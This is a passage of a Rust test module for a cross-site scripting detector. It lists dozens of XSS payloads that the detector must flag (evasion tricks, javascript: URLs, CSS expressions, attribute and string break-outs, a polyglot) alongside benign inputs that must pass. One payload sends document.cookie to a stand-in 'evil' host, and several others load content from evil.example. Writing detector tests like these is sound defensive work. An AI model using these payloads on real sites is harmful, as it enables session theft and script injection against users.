        "<isindex type=image src=1 onerror=alert(1)>",
        "<div onpointerover=\"alert(1)\">MOVE HERE</div>",
        "<img src=x onerror=alert(1)",
        // Sanitiser evasion and parser quirks.
        "\"><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<a title=\"<img src=x onerror=alert(1)>\">x</a>",
        "</script><script>alert(1)</script>",
        "</title><svg/onload=alert(1)>",
        // URLs.
        "<iframe src=javascript:alert(1)>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"&#14;javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<form><button formaction=javascript:alert(1)>X</button>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a>",
        "<svg><set attributeName=href to=javascript:alert(1) />",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<iframe src=\"https://evil.example/\">",
        "<embed src=\"https://evil.example/x.swf\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=import href=\"https://evil.example/x.html\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        // CSS.
        "<div style=\"width: expression(alert(1))\">",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<div style=\"x:\\65 xpression(alert(1))\">",
        "<div style=\"x:exp/**/ression(alert(1))\">",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<div style=\"-moz-binding:url(http://evil/x.xml#xss)\">",
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
        // CSS value.
        "color:red;background:url(javascript:alert(1))",
        "-moz-binding:url(http://example.com/xss.xml#xss)",
        "expression(alert(1))",
        // Namespaced (XHTML in XML, VML).
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
        "<v:vmlframe src=\"foo.com/sup.fml\"/>",
        // Attribute break-outs.
        "\" onmouseover=\"alert(1)",
        "\" onmouseover=alert(1) x=\"",
        "' autofocus onfocus=alert(1) x='",
        "x onmouseover=alert(1)",
        "x onmouseover = alert(1)",
        "\" onfocus = \"alert(1)\" autofocus \"",
        "\" href=\"javascript:alert(1)",
        "\" style=\"x:expression(alert(1))",
        "'><svg/onload=alert(1)>",
        // URL attribute value.
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.domain)",
        "  javascript:alert(1)",
        "java\tscript:alert(1)",
        "javascript://%0aalert(1)",
        "ja&tab;vascript: ",
        "ja\tvascript:",
        "v&NewLine;b&Tab;script:",
        "j\na\tv\na\ts\nc\nr\ti\tp\nt::",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        // JS string contexts.
        "';alert(1)//",
        "'+/x/+alert(1)//",
        "'-/[/]/.source-alert(1)-'",
        "\";alert(1)//",
        "'-alert(1)-'",
        "\"+alert(1)+\"",
        "');alert(String.fromCharCode(88,83,83))//",
        "';top['al'+'ert'](1)//",
        "';document.location='http://evil/?c='+document.cookie;//",
        "'; throw onerror=alert,1 //",
        "\\';alert(1)//",
        // Markdown.
        "[click](javascript:alert(1))",
        // Polyglots.
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "'\"><img src=x onerror=alert(1)>",
        "--></script><svg onload=alert(1)>",
    ];

    /// Benign inputs: none may be flagged.
    const BENIGN: &[&str] = &[
        "",
        "Regex: ^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+)@example\\.com$",
        "it's a*b/c^d`e`",
        "hello world",
        "a < b and c > d",
        "x<3",
        "<3",
        "I <3 you",
        "I <3 NY <3",
        "<john@example.com>",
        "John Smith <john.smith@example.com>",
        "if (a<b) { return b>c; }",
        "for (i=0;i<len;i++) { sum += a[i]; }",
        "List<String> items = new ArrayList<>();",
        "1 <= x <= 10",
        "2 > 1",
        "<<< merge >>>",
        "<- back | next ->",
        "<=> spaceship",
        "< script > is not a tag",
        "<!-- just a comment -->",
        "The onclick handler fires when you click.",
        "Use the onload event to start.",
        "I love javascript and typescript",
        "JavaScript: The Good Parts",
        "javascript:",
        "  JavaScript:  ",
        "My favourite language: javascript (really)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&lt;b&gt;bold&lt;/b&gt; &amp; more",
        "**bold** and _italic_ and `code` and [link](https://example.com)",
        "# Heading\n\n> quote\n\n- item",
        "<b>bold</b>",
        "<i>italic</i> and <em>em</em> and <strong>s</strong>",
        "<a href=\"https://example.com\">link</a>",
        "<a href=\"/about\" title=\"About us\">About</a>",
        "<img src=\"/a.png\" alt=\"x\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<p class=\"note\">Hi there</p>",
        "<ul><li>one</li><li>two</li></ul>",
        "<code>x &lt; y</code>",
        "<br/><hr>",
        "<blockquote cite=\"https://example.com\">quote</blockquote>",
        "{\"name\": \"John\", \"age\": 30}",
        "{\"html\": \"<b>hi</b>\", \"onload\": 1}",
        "{\"a\":\"b=c\",\"d\":[1,2,3]}",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "aGVsbG8gd29ybGQ=",
        "https://example.com/?a=1&b=2#frag",
        "http://example.com/javascript/guide?x=(1)",
        "mailto:john@example.com",
        "O'Reilly",
        "It's 5 o'clock; don't worry",
        "RUSTFLAGS='--cfg=foo' cargo build",
        "const ONLRET = c::ONLRET;",
        "let oneRR = bigint::One::newRR(m.alloc_zero(), &m);",
        "#[should_panic(expected = \"!self.is_zero(a)\")]",
        "the \"::MIN`] and `MAX` values",
        "text\", command = command, name = name)",
        "\"-formatted `Option<T>`\"",
        "RUSTFLAGS=\"-Zsanitizer=memory\" cargo test",
        "He said \"hi\" (loudly)",
        "She said \"click here\" and left",
        "SELECT * FROM t WHERE a<b AND c>d",
        "print(\"hello\")",
        "console.log('hi'); run(x)",
        "foo('a', bar(1))",
        "x = y + z",
        "Note: call me (maybe)",
        "data: 42 (approx)",
        "Jean-Luc Picard",
        "Zoë Saldaña",
        "=SUM(A1:A10)",
        "price = $5 (on sale)",
        "the <details> element has an open attribute",
        "type <input> then press enter",
        "Mr. O'Brien's \"car\"",
        "5' - 10\" tall",
        "a=1; b=2; c=a+b",
        "<span style=\"color: red; font-weight: bold\">red</span>",
        "<p style=\"font-family: 'Expression Pro'\">x</p>",
        "regular expression(s) are fun",
        "expression (:pep:`614`).",
        "color: red; background: url(/img/bg.png)",
        "url(https://example.com/a.png)",
        "<style>p { color: red }</style>",
    ];

    #[test]
    fn attacks_are_flagged() {
        let missed: Vec<&str> = ATTACKS
            .iter()
            .copied()
            .filter(|a| flagged(a).is_none())
            .collect();
        assert!(missed.is_empty(), "missed attacks: {missed:#?}");
        assert!(ATTACKS.len() >= 60);
    }

    #[test]
    fn benign_inputs_pass() {
        let wrong: Vec<(&str, Detection)> = BENIGN
            .iter()
            .filter_map(|b| flagged(b).map(|d| (*b, d)))
            .collect();
        assert!(wrong.is_empty(), "false positives: {wrong:#?}");
        assert!(BENIGN.len() >= 60);
    }

    #[test]
    fn details_say_what_fired() {
        let d = flagged("<svg/onload=alert(1)>").expect("flagged");
        assert_eq!(d.context, "html:text");
        assert_eq!(d.detail, "tag=svg handler=onload");
        let d = flagged("<script>alert(1)</script>").expect("flagged");
        assert_eq!(d.detail, "tag=script");
        let d = flagged("<a href=\"jav&#x09;ascript:alert(1)\">").expect("flagged");
        assert_eq!(d.detail, "tag=a attr=href scheme=javascript");
        let d = flagged("\" onmouseover=\"alert(1)").expect("flagged");
        assert_eq!(d.context, "html:attr-double-quoted");
        assert_eq!(d.detail, "breakout=\" tag=* handler=onmouseover");
        let d = flagged("' autofocus onfocus=alert(1) x='").expect("flagged");
        assert_eq!(d.context, "html:attr-single-quoted");
        let d = flagged("x onmouseover=alert(1)").expect("flagged");
        assert_eq!(d.context, "html:attr-unquoted");
        let d = flagged("javascript:alert(1)").expect("flagged");
        assert_eq!(d.context, "html:url-attribute");
        assert_eq!(d.detail, "scheme=javascript");
        let d = flagged("';alert(1)//").expect("flagged");
        assert_eq!(d.context, "js:single-quoted-string");
        assert_eq!(d.detail, "quote=' then call=alert");
        // Escaped markup is text everywhere except an unquoted attribute,
        // where its spaces still break out: a documented choice.
        let d = flagged("&lt;img src=x onerror=alert(1)&gt;").expect("flagged");
        assert_eq!(d.context, "html:attr-unquoted");
        let d = flagged("<scr<script>ipt>").expect("flagged");
        assert_eq!(d.detail, "tag=script");
        let d = flagged("<p title=\"</noscript><img src=x onerror=alert(1)>\">").expect("flagged");
        assert_eq!(d.detail, "tag=p in-attribute=title tag=img handler=onerror");
    }

    #[test]
    fn scan_is_capped() {
        let mut long = vec![b'a'; MAX_SCAN];
        long.extend_from_slice(b"<script>alert(1)</script>");
        assert!(detect(&long).is_none(), "bytes past MAX_SCAN are not read");
        long.drain(..100);
        assert!(detect(&long).is_some());
    }

    #[test]
    fn entity_decoding() {
        assert_eq!(
            decode_entities(b"a&#x3c;b&#60c&colon;&bogus;&"),
            b"a<b<c:&bogus;&"
        );
        assert_eq!(decode_entities(b"&#99999999999999;"), b"?");
    }

    /// Arbitrary bytes never panic (xorshift, no crates), with an alphabet
    /// biased towards the bytes the tokenizer branches on.
    #[test]
    fn random_bytes_do_not_panic() {
        const ALPHABET: &[u8] = b"<>/=\"' \t\n\r&#;:()`[]x-.\\onerscriptavjd0\x00\xff";
        super::super::random_inputs(ALPHABET, 0x9E37_79B9_7F4A_7C15, |buf| {
            let _ = detect(buf);
        });
    }
}
